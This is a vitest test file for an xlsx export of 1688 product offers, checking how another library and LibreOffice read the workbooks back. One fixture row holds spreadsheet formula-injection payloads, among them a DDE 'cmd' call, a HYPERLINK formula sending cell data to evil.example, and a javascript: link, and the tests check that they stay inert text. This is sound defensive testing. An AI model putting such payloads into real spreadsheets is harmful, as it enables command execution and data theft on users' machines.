/** Workbooks read back by readers that are not ours: another library, and LibreOffice. */
import { Readable } from 'node:stream';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, test } from 'vitest';
import { offerFile } from '../../src/files/offer-file.ts';
import { offerSheet } from '../../src/files/offer-sheet.ts';
import { xlsxOf } from '../../src/files/xlsx.ts';
import { partOf } from '../support/archive.ts';
import { listedOffers } from '../support/made-up-table.ts';
import { hasOffice, throughOffice } from '../support/office.ts';

const READER = { language: 'en', rate: { currency: 'USD', perYuan: 0.14, day: '2026-11-24' } } as const;

const workbook = async (): Promise<Uint8Array> => xlsxOf([offerSheet(await listedOffers(), READER)]);

describe('a workbook of offers, read by another library', () => {
  test('has a header, a row for each offer, and numbers that are numbers', async () => {
    const [header = [], ...rows] = await readSheet(Readable.from(Buffer.from(await workbook())));
    const row = (index: number) =>
      Object.fromEntries(header.map((name, column) => [String(name), rows[index]?.[column] ?? null]));
    expect(rows).toHaveLength(3);
    expect(row(0)).toEqual({
      'No.': 1,
      Picture: null,
      Title: 'Foldable coffee cup, 350 ml',
      'Original title': '304不锈钢便携折叠咖啡杯350ml',
      'Price (CNY)': 12.5,
      'Up to (CNY)': null,
      'About, in USD (2026-11-24)': 1.75,
      MOQ: 2,
      Unit: 'piece',
      'Tier 1 from': 2,
      'Tier 1 (CNY)': 12.5,
      'Tier 2 from': 100,
      'Tier 2 (CNY)': 11.8,
      'Tier 3 from': 1000,
      'Tier 3 (CNY)': 9.99,
      Sold: 1340,
      'Sold within': 'a month',
      'Buy again': 0.13,
      Supplier: '义乌示例厂',
      'Years on 1688': 6,
      Place: '浙江义乌',
      Score: 4.5,
      'Badges of 1688': 'Verified member',
      Match: 0.97,
      'Offer ID': '610947572360',
      Link: 'https://detail.1688.com/offer/610947572360.html',
    });
    expect(row(1)).toMatchObject({ 'Price (CNY)': 3.1, 'Up to (CNY)': 5.05, 'Tier 1 from': null });
    // 24 digits would be rounded as a number, and nothing is run.
    expect(row(2)).toMatchObject({
      'Offer ID': '123456789012345678901234',
      Title: "+cmd|' /C calc'!A0",
      'Original title': '=HYPERLINK("http://evil.example/"&A1)',
      Supplier: '@SUM(1+1)*cmd',
      Link: 'javascript:alert(1)',
    });
  });

  test('keeps Chinese readers’ titles in one column', async () => {
    const sheet = offerSheet(await listedOffers(), { language: 'zh' });
    expect(sheet.columns.map(({ header }) => header).slice(0, 4)).toEqual([
      '序号',
      '图片',
      '标题',
      '价格（元）',
    ]);
    const file = await offerFile(await listedOffers(), { language: 'zh', format: 'xlsx', name: 'a.xlsx' });
    const [, first = []] = await readSheet(Readable.from(Buffer.from(file.bytes)));
    expect(first[2]).toBe('304不锈钢便携折叠咖啡杯350ml');
  });
});

test('a workbook keeps its header in view, and a row with a picture is as high as that', async () => {
  const sheet = await partOf(await workbook(), 'xl/worksheets/sheet1.xml');
  expect(sheet).toMatch(/<pane ySplit="1" topLeftCell="A2" state="frozen"/);
  expect(sheet).toMatch(/<row r="2"[^>]* ht="64"[^>]*>/);
  expect(sheet).not.toMatch(/<f>/);
});

const all = (text: string, pattern: RegExp): string[] =>
  [...text.matchAll(pattern)].map(([, one = '']) => one);

describe.skipIf(!hasOffice)('a workbook of offers, opened in LibreOffice', () => {
  test('has its pictures, links, money and widths; no formula', {
    timeout: 120_000,
  }, async () => {
    const seen = await throughOffice(await workbook(), 'xlsx', 'fods');
    expect(all(seen, /<draw:image[^>]*draw:mime-type="([^"]+)"/g)).toEqual(['image/jpeg', 'image/jpeg']);
    expect(all(seen, /xlink:href="(https:[^"]+)"/g)).toEqual([
      'https://detail.1688.com/offer/610947572360.html',
      'https://detail.1688.com/offer/610947572361.html',
    ]);
    expect(seen).not.toMatch(/table:formula=|href="javascript:/);
    expect(seen).toContain('304不锈钢便携折叠咖啡杯350ml');
    expect(seen).toMatch(/office:value="12.5"[^>]*>\s*<text:p>[¥￥]12\.50</);
    expect(seen).toMatch(/office:value="0.13"[^>]*>\s*<text:p>13\s?%</);
    expect(new Set(all(seen, /style:column-width="([^"]+)"/g)).size).toBeGreaterThan(4);
  });

  test('that holds as many offers as a shortlist is opened as a whole', { timeout: 120_000 }, async () => {
    const [first] = await listedOffers();
    if (!first) throw new Error('no offers');
    const many = Array.from({ length: 60 }, () => first);
    const csv = await throughOffice(await xlsxOf([offerSheet(many, READER)]), 'xlsx', 'csv');
    expect(csv.trim().split('\n')).toHaveLength(61);
  });
});
